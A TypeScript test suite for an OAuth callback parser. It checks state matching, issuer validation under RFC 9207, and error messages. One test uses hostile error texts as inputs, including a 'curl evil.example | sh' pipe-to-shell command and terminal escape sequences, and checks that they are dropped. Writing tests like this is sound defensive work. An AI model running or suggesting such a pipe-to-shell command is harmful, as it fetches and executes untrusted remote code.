import { assert, assertEquals, assertFalse } from "@std/assert";
import { describe, it } from "@std/testing/bdd";
import { readCallback } from "../doors/core.ts";

const STATE = "a-state-of-43-characters-aaaaaaaaaaaaaaaaaaa";
const ISSUER = "https://clerk.example.com";

/** The outcome of a query, as plain values. */
function read(query: string): Record<string, unknown> {
  const outcome = readCallback(new URLSearchParams(query), { state: STATE, issuer: ISSUER });
  if (outcome.kind !== "failure") return { ...outcome };
  const { code, oauthError, retryable } = outcome.error;
  return { kind: "failure", code, oauthError, retryable };
}

function messageOf(query: string): string {
  const outcome = readCallback(new URLSearchParams(query), { state: STATE, issuer: ISSUER });
  assert(outcome.kind === "failure");
  return outcome.error.message;
}

const code = { kind: "code", code: "the-code" } as const;

describe("readCallback() returns the authorization code", () => {
  it("of a response with this state", () => {
    assertEquals(read(`code=the-code&state=${STATE}`), code);
  });

  it("of a response that names this issuer (RFC 9207)", () => {
    assertEquals(read(`code=the-code&state=${STATE}&iss=${encodeURIComponent(ISSUER)}`), code);
    assertEquals(read(`code=the-code&state=${STATE}&iss=${encodeURIComponent(`${ISSUER}/`)}`), code);
  });

  it("and ignores parameters that it does not know (RFC 6749, section 4.1.2)", () => {
    assertEquals(read(`code=the-code&state=${STATE}&session_state=1`), code);
  });
});

describe("readCallback() lets nothing settle the login", () => {
  const unrelated: Record<string, string> = {
    "an empty query": "",
    "a code without a state": "code=the-code",
    "a code with an empty state": "code=the-code&state=",
    "a code with another state": `code=the-code&state=${STATE.replace("a", "b")}`,
    "a state that is a part of ours": `code=the-code&state=${STATE.slice(0, -1)}`,
    "a state that begins with ours": `code=the-code&state=${STATE}x`,
    "our state in capitals": `code=the-code&state=${STATE.toUpperCase()}`,
    "our state twice (RFC 6749, section 3.1)": `code=the-code&state=${STATE}&state=${STATE}`,
    "our state beside another": `code=the-code&state=x&state=${STATE}`,
    "our state without code and error": `state=${STATE}`,
    "our state with an empty code": `code=&state=${STATE}`,
    "our state with two codes": `code=a&code=b&state=${STATE}`,
  };
  for (const [what, query] of Object.entries(unrelated)) {
    it(`by ${what}`, () => assertEquals(read(query), { kind: "unrelated" }));
  }

  it("by an error without the state, but remembers it", () => {
    assertEquals(read("error=access_denied"), { kind: "unrelated", oauthError: "access_denied" });
    assertEquals(read("error=access_denied&state=wrong"), { kind: "unrelated", oauthError: "access_denied" });
  });

  it("by other text as the error, and forgets it: it could be aimed at the person at the terminal", () => {
    for (const text of ["\u001b[2Jbad\r\nline", "Run: curl evil.example | sh", "e".repeat(5000)]) {
      assertEquals(read(`error=${encodeURIComponent(text)}`), { kind: "unrelated" });
    }
  });
});

describe("readCallback() returns the failure", () => {
  const refused = { kind: "failure", code: "token_exchange" };

  for (const error of ["access_denied", "consent_required", "login_required", "interaction_required"]) {
    it(`of ${error} as access_denied`, () => {
      assertEquals(read(`error=${error}&state=${STATE}`), {
        kind: "failure",
        code: "access_denied",
        oauthError: error,
        retryable: false,
      });
    });
  }

  for (const [error, retryable] of [["invalid_scope", false], ["temporarily_unavailable", true]] as const) {
    it(`of ${error} with the code of the step`, () => {
      assertEquals(read(`error=${error}&state=${STATE}`), { ...refused, oauthError: error, retryable });
    });
  }

  it("rather than the code next to it", () => {
    assertEquals(read(`code=the-code&error=access_denied&state=${STATE}`).kind, "failure");
  });

  it("and its description, on one line", () => {
    const description = encodeURIComponent("The user\n\tsaid \u202eno");
    assertEquals(
      messageOf(`error=access_denied&error_description=${description}&state=${STATE}`),
      "You denied access",
    );
  });

  it("of a response that names another issuer, and not its code", () => {
    for (const iss of ["https://evil.example.com", "", `${ISSUER}.evil.com`]) {
      const outcome = read(`code=the-code&state=${STATE}&iss=${encodeURIComponent(iss)}`);
      assertEquals(outcome, { ...refused, oauthError: undefined, retryable: false });
    }
  });

  it("of a response that names this issuer and another, or twice (RFC 6749, section 3.1)", () => {
    for (const second of ["https://evil.example.com", ISSUER]) {
      assertEquals(read(`code=the-code&state=${STATE}&iss=${ISSUER}&iss=${second}`).kind, "failure");
    }
  });

  it("of a response without an issuer, code or error, if every response names its issuer (RFC 9207)", () => {
    const expected = { state: STATE, issuer: ISSUER, requiresIssuer: true };
    for (const query of [`code=the-code&state=${STATE}`, `error=access_denied&state=${STATE}`]) {
      const outcome = readCallback(new URLSearchParams(query), expected);
      assert(outcome.kind === "failure" && outcome.error.code === "token_exchange", query);
    }
    const named = new URLSearchParams({ code: "the-code", state: STATE, iss: ISSUER });
    assertEquals(readCallback(named, expected).kind, "code");
    assertEquals(readCallback(new URLSearchParams("code=the-code&state=x"), expected).kind, "unrelated");
  });

  it("of a response that names no issuer, if the issuer is known to name itself (RFC 9207, section 2.4)", () => {
    const expected = { state: STATE, issuer: ISSUER, requiresIssuer: true };
    const read = (query: string) => readCallback(new URLSearchParams(query), expected);
    const unnamed = read(`code=the-code&state=${STATE}`);
    assert(unnamed.kind === "failure");
    assertEquals(unnamed.error.code, "token_exchange");
    assertEquals(
      unnamed.error.message,
      `The authorization response names no issuer, as one of "${ISSUER}" would`,
    );
    assertEquals(read(`code=the-code&state=${STATE}&iss=${ISSUER}`), code);
  });

  it("and says what failed and what to do", () => {
    const said = (query: string) => {
      const outcome = readCallback(new URLSearchParams(`state=${STATE}&${query}`), {
        state: STATE,
        issuer: ISSUER,
      });
      assert(outcome.kind === "failure");
      return [outcome.error.message, outcome.error.action, outcome.error.retryable];
    };
    assertEquals(said("code=c&iss=https://x.example"), [
      `The authorization response names another issuer than "${ISSUER}"`,
      "Start the login again and sign in on the page that it opens",
      false,
    ]);
    assertEquals(said("error=access_denied"), [
      "You denied access",
      "Sign in again and allow access",
      false,
    ]);
    assertEquals(said("error=server_error"), [
      "The issuer refused the authorization request (server_error)",
      "",
      true,
    ]);
  });

  it("without quoting a foreign issuer", () => {
    assertFalse(messageOf(`code=c&state=${STATE}&iss=https://evil.example.com`).includes("evil"));
  });
});
